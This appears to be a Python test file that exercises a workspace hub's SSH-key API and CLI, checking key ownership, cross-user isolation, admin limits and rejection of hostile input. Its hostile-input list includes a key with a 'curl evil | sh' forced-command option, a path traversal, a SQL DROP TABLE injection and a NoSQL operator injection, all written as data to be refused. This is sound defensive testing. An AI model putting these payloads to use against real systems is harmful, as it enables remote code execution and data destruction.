"""SSH keys through the workspace service's API and the CLI, on the real hub; and what another user, a forged
token or hostile input gets (nothing changes)."""

from __future__ import annotations

import json

import requests
from cryptography.hazmat.primitives.asymmetric import ed25519
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from .hub import ADMIN_PASSWORD, Hub
from .test_cli import cli


def new_key(comment: str = "") -> str:
    key = ed25519.Ed25519PrivateKey.generate().public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH)
    return f"{key.decode()} {comment}".strip()


def test_keys_are_added_listed_and_removed_by_their_owner(hub: Hub, tmp_path):
    token = hub.user_token("kay")
    pub = tmp_path / "id_ed25519.pub"
    pub.write_text(new_key("kay@laptop") + "\n")
    out = cli(hub, token, "ssh-key", "add", str(pub))
    assert out.startswith("added ssh-ed25519 key SHA256:") and out.strip().endswith("kay@laptop"), out
    fingerprint = out.split()[3]
    r = hub.service_call("POST", "/ssh-keys", token, json={"key": new_key(), "comment": "lab"})
    assert r.status_code == 201, r.text
    listed = json.loads(cli(hub, token, "ssh-key", "ls", "--json"))
    assert [(k["fingerprint"], k["comment"]) for k in listed][0] == (fingerprint, "kay@laptop")
    assert listed[1]["comment"] == "lab"
    err = cli(hub, token, "ssh-key", "add", str(pub), ok=False)
    assert "registered this key already" in err, err
    assert "removed ssh-ed25519 key" in cli(hub, token, "ssh-key", "rm", fingerprint)
    assert "no longer" in cli(hub, token, "ssh-key", "rm", str(listed[1]["id"]))
    assert cli(hub, token, "ssh-key", "ls").startswith("no SSH keys yet")


def test_another_user_a_forged_token_and_hostile_input_change_nothing(hub: Hub):
    ada, eve = hub.user_token("keyada"), hub.user_token("keyeve")
    r = hub.service_call("POST", "/ssh-keys", ada, json={"key": new_key("ada")})
    assert r.status_code == 201
    mine = r.json()
    # eve sees none of ada's keys, cannot remove them by number or fingerprint, cannot act as her
    assert hub.service_call("GET", "/ssh-keys", eve).json() == []
    for ref in (str(mine["id"]), mine["fingerprint"]):
        r = hub.service_call("DELETE", f"/ssh-keys/{requests.utils.quote(ref, safe='')}", eve)
        assert r.status_code == 404, r.text
    assert hub.service_call("GET", "/ssh-keys?user=keyada", eve).status_code == 403
    r = hub.service_call("POST", "/ssh-keys?user=keyada", eve, json={"key": new_key("planted")})
    assert r.status_code == 403
    assert hub.service_call("GET", "/ssh-keys", "forged-token-" + "x" * 20).status_code in (401, 403)
    # hostile keys: options, two lines, a private key, junk, a huge body
    for body in (
        {"key": 'command="curl evil | sh" ' + new_key()},
        {"key": new_key() + "\n" + new_key()},
        {"key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA"},
        {"key": "ssh-ed25519 ../../etc/passwd"},
        {"key": ["ssh-ed25519", "AAAA"]},
        {"key": new_key(), "comment": {"$ne": ""}},
        {},
    ):
        r = hub.service_call("POST", "/ssh-keys", ada, json=body)
        assert r.status_code == 400, (body, r.text)
        assert "Traceback" not in r.text
    r = hub.service_call("POST", "/ssh-keys", ada, data=b"{" * 200_000)
    assert r.status_code == 400
    for ref in ("..", "%2e%2e", "SHA256:nope", "1;DROP TABLE ssh_keys"):
        r = hub.service_call("DELETE", f"/ssh-keys/{ref}", ada)
        assert r.status_code in (400, 404), (ref, r.text)
    for method in ("POST", "PUT", "GET"):  # a key is added to the list, never at an address (found by the fuzzer)
        r = hub.service_call(method, f"/ssh-keys/{mine['id']}", ada, json={"key": new_key()})
        assert r.status_code == 405, (method, r.text)
    keys = hub.service_call("GET", "/ssh-keys", ada).json()
    assert [k["fingerprint"] for k in keys] == [mine["fingerprint"]]  # nothing changed
    # an administrator may list and revoke ada's key, never plant one for her
    admin = hub.user_token(hub.settings.admin_user, password=ADMIN_PASSWORD)
    assert [k["id"] for k in hub.service_call("GET", "/ssh-keys?user=keyada", admin).json()] == [mine["id"]]
    r = hub.service_call("POST", "/ssh-keys?user=keyada", admin, json={"key": new_key("admin's")})
    assert r.status_code == 403
    r = hub.service_call("DELETE", f"/ssh-keys/{mine['id']}?user=keyada", admin)
    assert r.status_code == 200 and r.json()["removed"]["id"] == mine["id"]
    assert hub.service_call("GET", "/ssh-keys", ada).json() == []
